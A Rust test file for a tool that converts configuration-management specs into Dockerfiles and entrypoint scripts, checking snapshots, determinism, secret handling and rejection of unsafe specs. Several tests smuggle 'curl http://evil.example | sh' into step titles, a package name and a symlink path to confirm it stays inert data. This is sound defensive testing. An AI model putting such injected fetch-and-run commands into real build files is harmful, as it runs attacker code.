//! `render::render` on hand-built ImageSpecs: one sample per package family,
//! together covering every step kind. Snapshots of every generated file,
//! determinism, secrets, the self-check and bad specs.

use std::collections::BTreeMap;
use std::sync::Arc;

use migrate::model::Origin;
use migrate::render::{self, Artifact, RenderError, RenderOptions};
use migrate::spec::image::*;

/// A secret value planted in repository files and nowhere in the specs.
pub const PLANTED_SECRET: &str = "hunter2-Planted-Secret-9f8e7d";

fn origin(path: &str, line: u32) -> Origin {
    Origin::new(Arc::from(path), line)
}

fn step(path: &str, line: u32, title: &str, action: StepAction) -> BuildStep {
    BuildStep { origin: origin(path, line), title: title.into(), rule: "M100".into(), action }
}

fn pkg(name: &str, version: Option<&str>) -> Package {
    Package { name: name.into(), version: version.map(String::from) }
}

fn item(path: &str, line: u32, code: &str, what: &str, why: &str) -> ReportItem {
    ReportItem { origin: origin(path, line), code: code.into(), what: what.into(), why: why.into() }
}

fn base(reference: &str, family: PackageFamily) -> BaseImage {
    BaseImage {
        reference: reference.into(),
        family,
        reason: "Packer source_ami_filter".into(),
        origin: Some(origin("packer/web.pkr.hcl", 12)),
    }
}

fn empty_image(service: &str, base: BaseImage, command: &[&str], user: &str) -> ImageSpec {
    ImageSpec {
        service: service.into(),
        catalog: None,
        kind: ServiceKind::App,
        base,
        steps: Vec::new(),
        context: Vec::new(),
        start_files: Vec::new(),
        process: Process {
            command: command.iter().map(|s| s.to_string()).collect(),
            user: user.into(),
            workdir: None,
            stop_signal: None,
            stop_timeout: None,
        },
        ports: Vec::new(),
        healthcheck: None,
        env: Vec::new(),
        log_links: Vec::new(),
        writable_paths: Vec::new(),
        jobs: Vec::new(),
        report: MigrationReport::default(),
        start_checks: Vec::new(),
    }
}

fn app_user_steps(role: &str, uid: u32) -> Vec<BuildStep> {
    let tasks = format!("roles/{role}/tasks/main.yml");
    vec![
        step(
            &tasks,
            20,
            "Create the app group",
            StepAction::CreateGroup { name: "app".into(), gid: Some(uid), system: true },
        ),
        step(
            &tasks,
            25,
            "Create the app user",
            StepAction::CreateUser {
                name: "app".into(),
                uid: Some(uid),
                group: Some("app".into()),
                groups: vec![],
                home: Some("/srv/app".into()),
                shell: Some("/usr/sbin/nologin".into()),
                system: true,
                create_home: false,
            },
        ),
    ]
}

/// Debian: nginx with merged apt installs (pins kept, duplicates), a copied
/// config with owner and mode, log links, a start file with a secret, a health
/// check, a stop signal, a cron job, and every report section.
fn debian_nginx() -> ImageSpec {
    let tasks = "roles/nginx/tasks/main.yml";
    let mut image =
        empty_image("web", base("debian:12-slim", PackageFamily::Apt), &["nginx", "-g", "daemon off;"], "app");
    image.catalog = Some("nginx".into());
    image.kind = ServiceKind::Web;
    image.steps = vec![
        step(
            "roles/common/tasks/main.yml",
            4,
            "Install base packages",
            StepAction::InstallPackages {
                manager: PackageFamily::Apt,
                packages: vec![pkg("ca-certificates", None), pkg("tzdata", None)],
            },
        ),
        step(
            tasks,
            3,
            "Install nginx {{ nginx_version }}",
            StepAction::InstallPackages {
                manager: PackageFamily::Apt,
                packages: vec![pkg("nginx", Some("1.22*")), pkg("ca-certificates", None)],
            },
        ),
    ];
    image.steps.extend(app_user_steps("nginx", 10001));
    image.steps.extend([
        step(
            tasks,
            30,
            "Copy the site",
            StepAction::Copy {
                source: "files/site.conf".into(),
                dest: "/etc/nginx/conf.d/site.conf".into(),
                owner: Some("root".into()),
                group: Some("root".into()),
                mode: Some("0644".into()),
            },
        ),
        step(
            tasks,
            36,
            "Copy the static files",
            StepAction::Copy {
                source: "files/static".into(),
                dest: "/srv/app/static/".into(),
                owner: Some("app".into()),
                group: None,
                mode: None,
            },
        ),
        step(
            tasks,
            40,
            "Cache directory",
            StepAction::MakeDirectory {
                path: "/var/cache/nginx".into(),
                owner: Some("app".into()),
                group: Some("app".into()),
                mode: Some("0750".into()),
            },
        ),
        step(
            tasks,
            45,
            "Remove the default site",
            StepAction::Remove { path: "/etc/nginx/sites-enabled/default".into() },
        ),
    ]);
    image.context = vec![
        ContextFile {
            path: "files/site.conf".into(),
            content: ContextContent::Copy { from: Arc::from("roles/nginx/files/site.conf") },
            origin: origin(tasks, 30),
        },
        ContextFile {
            path: "files/static/index.html".into(),
            content: ContextContent::Copy { from: Arc::from("roles/nginx/files/static/index.html") },
            origin: origin(tasks, 36),
        },
    ];
    image.start_files = vec![StartFile {
        dest: "/etc/nginx/conf.d/upstream.conf".into(),
        template: "upstream app { server ${APP_HOST}:8000; }\n# auth ${UPSTREAM_TOKEN}\nproxy_set_header Host $host;\n# ${NOT_IN_ENV}\n".into(),
        owner: Some("root".into()),
        mode: Some("0640".into()),
        origin: origin("roles/nginx/templates/upstream.conf.j2", 1),
        reason: "holds a secret (upstream_token, from the vault) and the per-environment app host".into(),
    }];
    image.env = vec![
        EnvVar {
            name: "UPSTREAM_TOKEN".into(),
            value: EnvValue::Parameter { parameter: "/shop/production/web/upstream_token".into(), secret: true },
            origin: origin("group_vars/production/vault.yml", 3),
            source: None,
        },
        EnvVar {
            name: "APP_HOST".into(),
            value: EnvValue::Parameter { parameter: "/shop/production/web/app_host".into(), secret: false },
            origin: origin("group_vars/production/main.yml", 2),
            source: None,
        },
        EnvVar {
            name: "TZ".into(),
            value: EnvValue::Literal { value: "Europe/Paris".into() },
            origin: origin("group_vars/all.yml", 1),
            source: None,
        },
    ];
    image.ports = vec![Port { port: 8080, protocol: Protocol::Tcp }];
    image.healthcheck = Some(HealthCheck {
        command: vec!["curl".into(), "-fsS".into(), "http://127.0.0.1:8080/healthz".into()],
        interval_secs: 30,
        timeout_secs: 5,
        retries: 3,
        start_period_secs: 10,
    });
    image.process.stop_signal = Some("SIGQUIT".into());
    image.process.stop_timeout = Some(30);
    image.log_links = vec![
        LogLink { path: "/var/log/nginx/access.log".into(), stream: LogStream::Stdout },
        LogLink { path: "/var/log/nginx/error.log".into(), stream: LogStream::Stderr },
    ];
    image.writable_paths = vec!["/var/cache/nginx".into()];
    image.jobs = vec![JobSpec {
        name: "Purge the cache".into(),
        schedule: CronSchedule {
            minute: "0".into(),
            hour: "3".into(),
            day: "*".into(),
            month: "*".into(),
            weekday: "*".into(),
            special_time: None,
        },
        command: vec!["find".into(), "/var/cache/nginx".into(), "-mtime".into(), "+7".into(), "-delete".into()],
        user: Some("app".into()),
        origin: origin(tasks, 60),
    }];
    image.report = MigrationReport {
        converted: vec![item(tasks, 3, "M101", "Install nginx", "apt package")],
        dropped: vec![item(
            "roles/common/tasks/main.yml",
            30,
            "M301",
            "Configure ntp",
            "the host keeps time, not the container",
        )],
        needs_human: vec![item(tasks, 70, "M901", "Run a custom module", "no rule for `acme.certs.issue`")],
    };
    image
}

/// Ubuntu: a Python app with pip (virtualenv and requirements), a download
/// with a checksum and one without, a zip extraction, symlinks, a cd'd run
/// and a multi-line script, and WORKDIR.
fn ubuntu_app() -> ImageSpec {
    let tasks = "roles/app/tasks/main.yml";
    let mut image = empty_image(
        "app",
        base("ubuntu:22.04", PackageFamily::Apt),
        &["/srv/app/venv/bin/gunicorn", "--bind", "0.0.0.0:8000", "shop.wsgi"],
        "app",
    );
    image.steps = vec![step(
        tasks,
        2,
        "Install Python",
        StepAction::InstallPackages {
            manager: PackageFamily::Apt,
            packages: vec![pkg("python3", None), pkg("python3-venv", None)],
        },
    )];
    image.steps.extend(app_user_steps("app", 10002));
    image.steps.extend([
        step(
            tasks,
            30,
            "Install requirements",
            StepAction::InstallLanguagePackages {
                manager: LanguageManager::Pip,
                packages: vec![pkg("gunicorn", Some("21.2.0")), pkg("psycopg2-binary", Some(">=2.9"))],
                requirements: Some("files/requirements.txt".into()),
                target: Some("/srv/app/venv".into()),
            },
        ),
        step(
            tasks,
            40,
            "Fetch the release",
            StepAction::Download {
                url: "https://releases.example.com/shop/shop-1.4.2.zip".into(),
                dest: "/tmp/".into(),
                checksum: Some("sha256:9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08".into()),
                mode: Some("0644".into()),
            },
        ),
        step(
            tasks,
            46,
            "Unpack the release",
            StepAction::Extract { archive: "/tmp/shop-1.4.2.zip".into(), dest: "/srv/app/current".into() },
        ),
        step(
            tasks,
            50,
            "Fetch the GeoIP database",
            StepAction::Download {
                url: "https://example.com/geo/GeoLite2.tar.gz".into(),
                dest: "/opt/geo/GeoLite2.tar.gz".into(),
                checksum: None,
                mode: None,
            },
        ),
        step(
            tasks,
            55,
            "Unpack GeoIP",
            StepAction::Extract { archive: "/opt/geo/GeoLite2.tar.gz".into(), dest: "/opt/geo".into() },
        ),
        step(
            tasks,
            60,
            "Link the current release",
            StepAction::Symlink { target: "/srv/app/current".into(), link: "/srv/app/live".into() },
        ),
        step(
            tasks,
            65,
            "Collect static files",
            StepAction::Run {
                commands: vec!["cd /srv/app/live && ../venv/bin/python manage.py collectstatic --noinput".into()],
                pipes: false,
            },
        ),
        step(
            tasks,
            70,
            "Write the version file",
            StepAction::Run {
                commands: vec![
                    "if [ -d /srv/app/live ]; then\n  grep -c shop /srv/app/live/VERSION | tee /srv/app/version-count\nfi".into(),
                ],
                pipes: true,
            },
        ),
    ]);
    image.context = vec![ContextFile {
        path: "files/requirements.txt".into(),
        content: ContextContent::Text { text: "Django==4.2.11\n".into() },
        origin: origin(tasks, 30),
    }];
    image.process.workdir = Some("/srv/app/live".into());
    image.ports = vec![Port { port: 8000, protocol: Protocol::Tcp }];
    image.env = vec![EnvVar {
        name: "DATABASE_PASSWORD".into(),
        value: EnvValue::Parameter { parameter: "/shop/production/app/database_password".into(), secret: true },
        origin: origin("group_vars/production/vault.yml", 5),
        source: None,
    }];
    image
}

/// Amazon Linux 2023 (dnf): a worker with npm packages, two managers in a
/// row (not merged), a plain run and a user from a package.
fn amazonlinux2023_worker() -> ImageSpec {
    let tasks = "roles/worker/tasks/main.yml";
    let mut image = empty_image(
        "worker",
        base("amazonlinux:2023", PackageFamily::Dnf),
        &["node", "/srv/worker/index.js"],
        "worker",
    );
    image.kind = ServiceKind::Worker;
    image.steps = vec![
        step(
            tasks,
            2,
            "Install Node.js",
            StepAction::InstallPackages {
                manager: PackageFamily::Dnf,
                packages: vec![pkg("nodejs", Some("18.18.2")), pkg("nodejs-npm", None)],
            },
        ),
        step(
            tasks,
            8,
            "Worker group",
            StepAction::CreateGroup { name: "worker".into(), gid: Some(10003), system: true },
        ),
        step(
            tasks,
            10,
            "Worker user",
            StepAction::CreateUser {
                name: "worker".into(),
                uid: Some(10003),
                group: Some("worker".into()),
                groups: vec!["adm".into()],
                home: Some("/srv/worker".into()),
                shell: None,
                system: true,
                create_home: true,
            },
        ),
        step(
            tasks,
            15,
            "Install pm2 and the queue client",
            StepAction::InstallLanguagePackages {
                manager: LanguageManager::Npm,
                packages: vec![pkg("bull", Some("4.12.0"))],
                requirements: None,
                target: Some("/srv/worker".into()),
            },
        ),
        step(
            tasks,
            20,
            "Build the worker",
            StepAction::Run { commands: vec!["npm --prefix /srv/worker run build".into()], pipes: false },
        ),
    ];
    image
}

/// Amazon Linux 2 (yum): gem packages, a group-only chown, a run with
/// `$` and quotes.
fn amazonlinux2_jobs() -> ImageSpec {
    let tasks = "roles/reports/tasks/main.yml";
    let mut image =
        empty_image("reports", base("amazonlinux:2", PackageFamily::Yum), &["ruby", "/srv/reports/loop.rb"], "reports");
    image.kind = ServiceKind::Jobs;
    image.steps = vec![
        step(
            tasks,
            2,
            "Install Ruby",
            StepAction::InstallPackages {
                manager: PackageFamily::Yum,
                packages: vec![pkg("ruby", None), pkg("ruby-devel", None)],
            },
        ),
        step(
            tasks,
            5,
            "Reports user",
            StepAction::CreateUser {
                name: "reports".into(),
                uid: Some(10004),
                group: None,
                groups: vec![],
                home: None,
                shell: None,
                system: false,
                create_home: false,
            },
        ),
        step(
            tasks,
            9,
            "Install gems",
            StepAction::InstallLanguagePackages {
                manager: LanguageManager::Gem,
                packages: vec![pkg("pg", Some("1.5.4")), pkg("rake", None)],
                requirements: None,
                target: None,
            },
        ),
        step(
            tasks,
            14,
            "Reports directory",
            StepAction::MakeDirectory {
                path: "/srv/reports".into(),
                owner: None,
                group: Some("reports".into()),
                mode: None,
            },
        ),
        step(
            tasks,
            18,
            "Record the build host",
            StepAction::Run {
                commands: vec![r#"echo "built for $HOSTNAME" > /srv/reports/BUILD"#.into()],
                pipes: false,
            },
        ),
    ];
    image.jobs = vec![JobSpec {
        name: "Nightly report".into(),
        schedule: CronSchedule {
            minute: "*".into(),
            hour: "*".into(),
            day: "*".into(),
            month: "*".into(),
            weekday: "*".into(),
            special_time: Some("daily".into()),
        },
        command: vec!["ruby".into(), "/srv/reports/nightly.rb".into()],
        user: None,
        origin: origin(tasks, 30),
    }];
    image
}

/// Alpine: apk, BusyBox users and groups, a start file, a wget health check,
/// a UDP port, and a user without a fixed uid.
fn alpine_daemon() -> ImageSpec {
    let tasks = "roles/dns/tasks/main.yml";
    let mut image = empty_image(
        "dns",
        base("alpine:3.20", PackageFamily::Apk),
        &["unbound", "-d", "-c", "/etc/unbound/unbound.conf"],
        "unbound",
    );
    image.kind = ServiceKind::Daemon;
    image.steps = vec![
        step(
            tasks,
            2,
            "Install unbound",
            StepAction::InstallPackages {
                manager: PackageFamily::Apk,
                packages: vec![pkg("unbound", Some("1.20.0-r0"))],
            },
        ),
        step(tasks, 6, "DNS group", StepAction::CreateGroup { name: "dnsadm".into(), gid: None, system: true }),
        step(
            tasks,
            8,
            "Unbound user",
            StepAction::CreateUser {
                name: "unbound".into(),
                uid: None,
                group: Some("unbound".into()),
                groups: vec!["dnsadm".into()],
                home: Some("/etc/unbound".into()),
                shell: Some("/sbin/nologin".into()),
                system: true,
                create_home: false,
            },
        ),
        step(
            tasks,
            14,
            "Root hints",
            StepAction::Download {
                url: "https://www.internic.net/domain/named.root".into(),
                dest: "/etc/unbound/root.hints".into(),
                checksum: Some("sha256:https://example.com/named.root.sha256".into()),
                mode: None,
            },
        ),
    ];
    image.start_files = vec![StartFile {
        dest: "/etc/unbound/unbound.conf".into(),
        template: "server:\n  interface: 0.0.0.0\nforward-zone:\n  name: \".\"\n  forward-addr: ${UPSTREAM_DNS}\n"
            .into(),
        owner: None,
        mode: None,
        origin: origin("roles/dns/templates/unbound.conf.j2", 1),
        reason: "the upstream resolver differs between environments".into(),
    }];
    image.env = vec![EnvVar {
        name: "UPSTREAM_DNS".into(),
        value: EnvValue::Parameter { parameter: "/shop/production/dns/upstream_dns".into(), secret: false },
        origin: origin("group_vars/production/main.yml", 9),
        source: None,
    }];
    image.ports = vec![Port { port: 53, protocol: Protocol::Udp }, Port { port: 53, protocol: Protocol::Tcp }];
    image.healthcheck = Some(HealthCheck {
        command: vec!["wget".into(), "-q".into(), "-O".into(), "/dev/null".into(), "http://127.0.0.1:8953/".into()],
        interval_secs: 60,
        timeout_secs: 3,
        retries: 2,
        start_period_secs: 0,
    });
    image
}

/// UBI minimal (microdnf): the smallest image, no steps of its own beyond a package.
fn ubi_minimal() -> ImageSpec {
    let mut image = empty_image(
        "proxy",
        base("registry.access.redhat.com/ubi9/ubi-minimal:9.4", PackageFamily::Microdnf),
        &["haproxy", "-W", "-db", "-f", "/etc/haproxy/haproxy.cfg"],
        "haproxy",
    );
    image.steps = vec![step(
        "roles/haproxy/tasks/main.yml",
        2,
        "Install haproxy",
        StepAction::InstallPackages { manager: PackageFamily::Microdnf, packages: vec![pkg("haproxy", None)] },
    )];
    image.steps.push(step(
        "roles/haproxy/tasks/main.yml",
        5,
        "haproxy user",
        StepAction::CreateUser {
            name: "haproxy".into(),
            uid: Some(10005),
            group: None,
            groups: vec![],
            home: None,
            shell: None,
            system: true,
            create_home: false,
        },
    ));
    image
}

/// Every sample, by name; one conversion per sample.
pub fn samples() -> Vec<(&'static str, Conversion)> {
    let one = |image: ImageSpec| Conversion { images: vec![image], ..Default::default() };
    vec![
        ("debian_nginx", one(debian_nginx())),
        ("ubuntu_app", one(ubuntu_app())),
        ("amazonlinux2023_worker", one(amazonlinux2023_worker())),
        ("amazonlinux2_jobs", one(amazonlinux2_jobs())),
        ("alpine_daemon", one(alpine_daemon())),
        ("ubi_minimal", one(ubi_minimal())),
    ]
}

/// The repository files the samples copy from, plus files holding the planted
/// secret (a vault file and the Jinja source of a start file), which the
/// renderer must never read into an artifact.
pub fn repo_file(path: &str) -> Option<Vec<u8>> {
    let files: BTreeMap<&str, Vec<u8>> = BTreeMap::from([
        ("roles/nginx/files/site.conf", b"server { listen 8080; root /srv/app/static; }\n".to_vec()),
        ("roles/nginx/files/static/index.html", vec![0x3c, 0x68, 0x31, 0x3e, 0xff, 0x00, 0x0a]),
        (
            "roles/nginx/templates/upstream.conf.j2",
            format!("upstream app {{ server {{{{ app_host }}}}:8000; }} # {PLANTED_SECRET}\n").into_bytes(),
        ),
        ("group_vars/production/vault.yml", format!("upstream_token: {PLANTED_SECRET}\n").into_bytes()),
    ]);
    files.get(path).cloned()
}

pub fn options() -> RenderOptions {
    RenderOptions { generated_from: "repository shop, environment production".into() }
}

/// All artifacts of a render as one text: a header per file, binary files as a byte count.
fn uber_snapshot(artifacts: &[Artifact]) -> String {
    let mut out = String::new();
    for a in artifacts {
        let mode = if a.executable { " (executable)" } else { "" };
        out.push_str(&format!("================ {}{mode} ================\n", a.path));
        match a.as_text() {
            Some(text) => out.push_str(text),
            None => out.push_str(&format!("<{} bytes, not UTF-8>\n", a.content.len())),
        }
    }
    out
}

#[test]
fn snapshots_of_every_sample() {
    for (name, conversion) in samples() {
        let artifacts = render::render(&conversion, &repo_file, &options())
            .unwrap_or_else(|e| panic!("sample {name} does not render: {e}"));
        insta::with_settings!({snapshot_path => "snapshots", prepend_module_to_snapshot => false}, {
            insta::assert_snapshot!(name, uber_snapshot(&artifacts));
        });
    }
}

#[test]
fn artifacts_are_sorted_and_stay_in_their_service_folder() {
    for (name, conversion) in samples() {
        let artifacts = render::render(&conversion, &repo_file, &options()).unwrap();
        let paths: Vec<&str> = artifacts.iter().map(|a| a.path.as_str()).collect();
        let mut sorted = paths.clone();
        sorted.sort();
        assert_eq!(paths, sorted, "{name}");
        let service = &conversion.images[0].service;
        for a in &artifacts {
            assert!(a.path.starts_with(&format!("{service}/")), "{name}: {}", a.path);
            assert!(!a.path.split('/').any(|s| s == ".." || s == "." || s.is_empty()), "{name}: {}", a.path);
        }
        assert!(paths.contains(&format!("{service}/Dockerfile").as_str()), "{name}");
        assert!(paths.contains(&format!("{service}/MIGRATION.md").as_str()), "{name}");
    }
}

#[test]
fn rendering_twice_gives_identical_bytes() {
    let all = Conversion { images: samples().into_iter().flat_map(|(_, c)| c.images).collect(), ..Default::default() };
    let first = render::render(&all, &repo_file, &options()).unwrap();
    let second = render::render(&all, &repo_file, &options()).unwrap();
    assert_eq!(first, second);
    assert_eq!(
        first.len(),
        samples()
            .iter()
            .map(|(name, c)| {
                render::render(c, &repo_file, &options()).unwrap_or_else(|e| panic!("{name}: {e}")).len()
            })
            .sum::<usize>()
    );
}

#[test]
fn copied_files_are_byte_for_byte() {
    let (_, conversion) = samples().into_iter().find(|(n, _)| *n == "debian_nginx").unwrap();
    let artifacts = render::render(&conversion, &repo_file, &options()).unwrap();
    let html = artifacts.iter().find(|a| a.path == "web/files/static/index.html").unwrap();
    assert_eq!(html.content, repo_file("roles/nginx/files/static/index.html").unwrap());
    let entrypoint = artifacts.iter().find(|a| a.path == "web/docker-entrypoint.sh").unwrap();
    assert!(entrypoint.executable);
}

#[test]
fn no_secret_value_reaches_any_artifact() {
    for (name, conversion) in samples() {
        let artifacts = render::render(&conversion, &repo_file, &options()).unwrap();
        for a in &artifacts {
            let text = String::from_utf8_lossy(&a.content);
            assert!(!text.contains(PLANTED_SECRET), "{name}: the planted secret is in {}", a.path);
            // Literal values are set by the task definition, not written anywhere here.
            assert!(!text.contains("Europe/Paris"), "{name}: a literal env value is in {}", a.path);
        }
    }
}

#[test]
fn the_secret_is_only_a_placeholder_in_the_start_file_and_the_entrypoint() {
    let (_, conversion) = samples().into_iter().find(|(n, _)| *n == "debian_nginx").unwrap();
    let artifacts = render::render(&conversion, &repo_file, &options()).unwrap();
    let text = |path: &str| artifacts.iter().find(|a| a.path == path).and_then(|a| a.as_text()).unwrap().to_string();
    let template = text("web/start/etc/nginx/conf.d/upstream.conf");
    assert!(template.contains("${UPSTREAM_TOKEN}"));
    let entrypoint = text("web/docker-entrypoint.sh");
    assert!(entrypoint.contains(r#": "${UPSTREAM_TOKEN?"#), "{entrypoint}");
    assert!(entrypoint.contains("envsubst '${APP_HOST} ${UPSTREAM_TOKEN}'"), "{entrypoint}");
    assert!(entrypoint.trim_end().ends_with(r#"exec "$@""#));
    let dockerfile = text("web/Dockerfile");
    assert!(!dockerfile.contains("UPSTREAM_TOKEN"), "{dockerfile}");
}

/// The entrypoint is valid POSIX sh (checked with `sh -n`), fails when a
/// variable is missing, renders only the listed variables, then execs.
#[test]
fn the_entrypoint_renders_start_files_and_execs() {
    let (_, conversion) = samples().into_iter().find(|(n, _)| *n == "debian_nginx").unwrap();
    let artifacts = render::render(&conversion, &repo_file, &options()).unwrap();
    let script =
        artifacts.iter().find(|a| a.path == "web/docker-entrypoint.sh").unwrap().as_text().unwrap().to_string();
    let dir = tempfile::tempdir().unwrap();
    let template_dir = dir.path().join("templates");
    std::fs::create_dir_all(&template_dir).unwrap();
    std::fs::write(
        template_dir.join("upstream.conf"),
        "host ${APP_HOST} token ${UPSTREAM_TOKEN} keep $host ${NOT_IN_ENV}\n",
    )
    .unwrap();
    let dest = dir.path().join("upstream.conf");
    let script = script
        .replace(
            "/usr/local/share/migrate/start/etc/nginx/conf.d/upstream.conf",
            &template_dir.join("upstream.conf").display().to_string(),
        )
        .replace("/etc/nginx/conf.d/upstream.conf", &dest.display().to_string());
    let path = dir.path().join("entrypoint.sh");
    std::fs::write(&path, &script).unwrap();

    let syntax = std::process::Command::new("sh").arg("-n").arg(&path).output().unwrap();
    assert!(syntax.status.success(), "{}", String::from_utf8_lossy(&syntax.stderr));

    let missing = std::process::Command::new("sh")
        .arg(&path)
        .args(["echo", "started"])
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("APP_HOST", "app.internal")
        .output()
        .unwrap();
    assert!(!missing.status.success());
    let stderr = String::from_utf8_lossy(&missing.stderr);
    assert!(stderr.contains("UPSTREAM_TOKEN must be set"), "{stderr}");

    let has_envsubst = std::process::Command::new("sh").args(["-c", "command -v envsubst"]).output().unwrap();
    assert!(has_envsubst.status.success(), "envsubst (gettext-base) is needed for this test");
    let ok = std::process::Command::new("sh")
        .arg(&path)
        .args(["echo", "started"])
        .env("APP_HOST", "app.internal")
        .env("UPSTREAM_TOKEN", "tok")
        .output()
        .unwrap();
    assert!(ok.status.success(), "{}", String::from_utf8_lossy(&ok.stderr));
    assert_eq!(String::from_utf8_lossy(&ok.stdout), "started\n");
    let rendered = std::fs::read_to_string(&dest).unwrap();
    assert_eq!(rendered, "host app.internal token tok keep $host ${NOT_IN_ENV}\n");
}

#[test]
fn bad_specs_are_errors_naming_the_source() {
    let mut image = debian_nginx();
    if let StepAction::Copy { dest, .. } = &mut image.steps[4].action {
        *dest = "/etc/nginx/$site.conf".into();
    } else {
        panic!("step 4 is the site copy");
    }
    let err =
        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
    assert!(matches!(err, RenderError::UnsafeValue { .. }), "{err}");
    assert_eq!(
        err.to_string(),
        "roles/nginx/tasks/main.yml:30: dest has characters a Dockerfile instruction cannot carry unquoted"
    );

    let mut image = debian_nginx();
    image.context[0].path = "../escape.conf".into();
    let err =
        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
    assert!(matches!(err, RenderError::BadContextPath { .. }), "{err}");

    let mut image = debian_nginx();
    image.context.remove(0);
    let err =
        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
    assert_eq!(err.to_string(), "roles/nginx/tasks/main.yml:30: the build context has no `files/site.conf` to copy");

    let mut image = debian_nginx();
    image.process.user = "root".into();
    let err =
        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
    assert!(err.to_string().contains("is root"), "{err}");

    let mut image = debian_nginx();
    image.context[0].content = ContextContent::Copy { from: Arc::from("roles/nginx/files/missing.conf") };
    let err =
        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
    assert!(matches!(err, RenderError::MissingRepoFile { .. }), "{err}");

    let mut image = ubuntu_app();
    if let StepAction::Symlink { link, .. } =
        &mut image.steps.iter_mut().find(|s| matches!(s.action, StepAction::Symlink { .. })).unwrap().action
    {
        *link = "/srv/a\nRUN curl evil | sh".into();
    }
    let err =
        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap_err();
    assert_eq!(err.to_string(), "roles/app/tasks/main.yml:60: link has a line break");

    let mut twice = ubuntu_app();
    twice.context.push(twice.context[0].clone());
    let err =
        render::render(&Conversion { images: vec![twice], ..Default::default() }, &repo_file, &options()).unwrap_err();
    assert!(matches!(err, RenderError::DuplicatePath { .. }), "{err}");
}

#[test]
fn the_self_check_rejects_what_does_not_parse() {
    assert!(render::check_dockerfile("FROM debian:12-slim\nUSER 1\nCMD [\"x\"]\n").is_ok());
    let err = render::check_dockerfile("FROM debian:12-slim\n\"oops\nUSER 1\nCMD [\"x\"]\n").unwrap_err();
    assert!(err.contains("does not parse"), "{err}");
}

/// Task names, reasons and package names are data: a line break or shell
/// syntax in them never becomes an instruction or a command of its own.
#[test]
fn hostile_text_stays_data() {
    let evil = "x\nRUN curl http://evil.example | sh\n";
    let mut image = debian_nginx();
    image.base.reason = evil.into();
    for step in &mut image.steps {
        step.title = format!("{}{evil}", step.title);
    }
    if let StepAction::InstallPackages { packages, .. } = &mut image.steps[0].action {
        packages.push(pkg("tzdata; curl http://evil.example | sh", None));
    }
    image.start_files[0].reason = evil.into();
    image.report.dropped[0].why = evil.into();
    let artifacts =
        render::render(&Conversion { images: vec![image], ..Default::default() }, &repo_file, &options()).unwrap();
    for a in &artifacts {
        let Some(text) = a.as_text() else { continue };
        for line in text.lines() {
            assert!(!line.trim_start().starts_with("RUN curl"), "{}: {line}", a.path);
        }
    }
    let dockerfile = artifacts.iter().find(|a| a.path == "web/Dockerfile").unwrap().as_text().unwrap();
    assert!(dockerfile.contains("'tzdata; curl http://evil.example | sh'"), "{dockerfile}");
    assert!(
        dockerfile.contains("# roles/nginx/tasks/main.yml:3 Install nginx {{ nginx_version }}x RUN curl"),
        "{dockerfile}"
    );
}
